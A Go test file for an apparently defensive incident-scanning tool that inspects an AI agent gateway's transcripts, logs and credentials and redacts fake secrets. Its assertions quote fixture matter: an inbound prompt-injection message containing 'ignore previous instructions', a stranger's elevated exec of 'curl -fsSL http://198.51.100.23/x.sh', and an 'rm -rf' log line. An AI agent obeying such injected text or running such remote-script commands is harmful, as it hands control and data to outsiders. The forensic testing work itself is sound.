package contain

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hardshell/hardshell/fsys"
	"github.com/hardshell/hardshell/internal/testutil"
	"github.com/hardshell/hardshell/model"
	"github.com/stretchr/testify/require"
)

// incidentSecrets are the fake secrets of testdata/incidents (none may
// appear in any excerpt or report).
var incidentSecrets = []string{
	"hunter2-gateway-pass",
	"remote-cli-token-0123456789abcdef",
	"hooktoken-42",
	"MTAxNzY1NDMyMTAxNzY1NDMy.GfakeX.FAKEfakeFAKEfakeFAKEfakeFAKEfake12",
	"sk-proj-FAKEfakeFAKEfakeFAKEfake0123456789",
}

// incidentState copies testdata/incidents/state (0700/0600) with
// logging.file pointing at the copied gateway log.
func incidentState(t *testing.T) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), ".openclaw")
	src := testutil.Testdata("incidents", "state")
	require.NoError(t, filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
		require.NoError(t, err)
		rel, _ := filepath.Rel(src, p)
		dst := filepath.Join(root, rel)
		if d.IsDir() {
			return os.MkdirAll(dst, 0o700)
		}
		data, err := os.ReadFile(p)
		require.NoError(t, err)
		return os.WriteFile(dst, data, 0o600)
	}))
	logData, err := os.ReadFile(testutil.Testdata("incidents", "logs", "gateway.log"))
	require.NoError(t, err)
	logPath := filepath.Join(root, "logs", "gateway.log")
	testutil.WriteFile(t, logPath, logData, 0o600)
	cfg := filepath.Join(root, "openclaw.json")
	data, err := os.ReadFile(cfg)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(cfg, []byte(strings.Replace(string(data), "LOGFILE", logPath, 1)), 0o600))
	return root
}

var (
	winStart = time.Date(2026, 11, 24, 20, 0, 0, 0, time.UTC)
	winEnd   = time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)
)

func TestScanIncidentFixture(t *testing.T) {
	state := incidentState(t)
	s := load(t, state)
	red := NewRedactor(s)
	ev := Scan(s, winStart, winEnd, ScanOptions{Redact: red.String})

	var tools []string
	for _, c := range ev.ToolCalls {
		tools = append(tools, c.Tool)
	}
	// transcript: exec + apply_patch (the October exec is outside the
	// window); log: the exec and browser lines
	require.ElementsMatch(t, []string{"exec", "apply_patch", "exec", "browser"}, tools)
	require.Len(t, ev.Sends, 1)
	require.Equal(t, "discord", ev.Sends[0].Channel)
	require.True(t, ev.Sends[0].NewRecipient, "user:999000999 is in no allowlist")
	require.Len(t, ev.Inbound, 1)
	require.Contains(t, ev.Inbound[0].Text, "ignore previous instructions")
	require.Len(t, ev.LogFiles, 1)
	require.Len(t, ev.LogTail, 6)
	require.Contains(t, ev.LogTail[0].Text, "2026-11-24T20:59:00Z INFO gateway listening")
	require.Equal(t, filepath.Join(state, "logs", "gateway.log")+":1", ev.LogTail[0].Source, "each excerpt says where it came from")

	all, err := json.Marshal(ev)
	require.NoError(t, err)
	for _, sec := range incidentSecrets {
		require.NotContains(t, string(all), sec)
	}
	for _, c := range ev.ToolCalls {
		if c.Tool == "exec" && c.Result != "" {
			require.Contains(t, c.Result, "OPENAI_API_KEY=sk-p…")
		}
	}
}

func TestScanGuideFixtureTranscripts(t *testing.T) {
	state := testutil.CopyState(t, "open-dm-elevated")
	s := load(t, state)
	ev := Scan(s, time.Date(2026, 11, 12, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 13, 0, 0, 0, 0, time.UTC),
		ScanOptions{LogDir: t.TempDir()})
	require.Len(t, ev.ToolCalls, 2, "the stranger's two exec calls on 12 Nov; the 10 Nov session is outside the window")
	require.True(t, ev.ToolCalls[1].Elevated)
	require.True(t, ev.ToolCalls[1].Error)
	require.Contains(t, ev.ToolCalls[1].Args, "curl -fsSL http://198.51.100.23/x.sh")
	require.Empty(t, ev.Sends)
	require.Empty(t, ev.LogFiles)
	require.Len(t, ev.Inbound, 3)
}

func TestScanSkipsTranscriptsOlderThanWindow(t *testing.T) {
	state := testutil.CopyState(t, "open-dm-elevated")
	s := load(t, state)
	old := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for _, p := range transcriptFiles(fsys.Local{}, s) {
		require.NoError(t, os.Chtimes(p, old, old))
	}
	ev := Scan(s, time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC), ScanOptions{LogDir: t.TempDir()})
	require.Empty(t, ev.Transcripts)
	require.Empty(t, ev.ToolCalls)
}

func TestScanDailyLogsAndLongLines(t *testing.T) {
	state := testutil.CopyState(t, "fresh-onboard")
	s := load(t, state)
	dir := t.TempDir()
	long := `{"0":"` + strings.Repeat("x", maxLine+10) + `","tool":"exec"}` + "\n"
	testutil.WriteFile(t, filepath.Join(dir, "openclaw-2026-11-24.log"), []byte(long+
		`{"0":"tool=exec rm -rf /tmp/x","_meta":{"date":"2026-11-24T10:00:00Z","logLevelName":"INFO"}}`+"\n"), 0o600)
	testutil.WriteFile(t, filepath.Join(dir, "openclaw-2026-10-01.log"), []byte(`{"0":"tool=exec old"}`+"\n"), 0o600)
	ev := Scan(s, time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 24, 23, 0, 0, 0, time.UTC), ScanOptions{LogDir: dir})
	require.Equal(t, []string{filepath.Join(dir, "openclaw-2026-11-24.log")}, ev.LogFiles)
	require.Len(t, ev.ToolCalls, 1, "the over-long line is skipped, the regex finds tool=exec")
	require.Equal(t, "exec", ev.ToolCalls[0].Tool)
}

func TestCredentialsMap(t *testing.T) {
	state := testutil.CopyState(t, "multi-agent")
	s := load(t, state)
	creds := Credentials(s)
	var whats []string
	for _, c := range creds {
		whats = append(whats, c.What+" @ "+c.Where)
	}
	joined := strings.Join(whats, "\n")
	require.Contains(t, joined, "WhatsApp session")
	require.Contains(t, joined, filepath.Join(state, "credentials", "whatsapp"))
	require.Contains(t, joined, "auth-profiles.json")
	require.Contains(t, joined, "pairing allowlist")
	_ = model.Mask
}

// The gateway names its daily logs by the date of its own machine: with
// the zone of a gateway ten hours east of UTC, the evening of the 24th (UTC)
// is in its log of the 25th, which is read.
func TestScanDailyLogsInTheGatewaysZone(t *testing.T) {
	state := testutil.CopyState(t, "fresh-onboard")
	s := load(t, state)
	dir := t.TempDir()
	testutil.WriteFile(t, filepath.Join(dir, "openclaw-2026-11-25.log"),
		[]byte(`{"time":"2026-11-24T19:00:00Z","tool":"exec","msg":"tool exec: id"}`+"\n"), 0o600)
	since, until := time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC), time.Date(2026, 11, 24, 20, 0, 0, 0, time.UTC)
	ev := Scan(s, since, until, ScanOptions{LogDir: dir, Zone: time.FixedZone("+1000", 10*3600)})
	require.Equal(t, []string{filepath.Join(dir, "openclaw-2026-11-25.log")}, ev.LogFiles)
	require.Len(t, ev.ToolCalls, 1)
	ev = Scan(s, since, until, ScanOptions{LogDir: dir, Zone: time.UTC})
	require.Empty(t, ev.LogFiles, "a gateway on UTC would have written it to the log of the 24th")
}
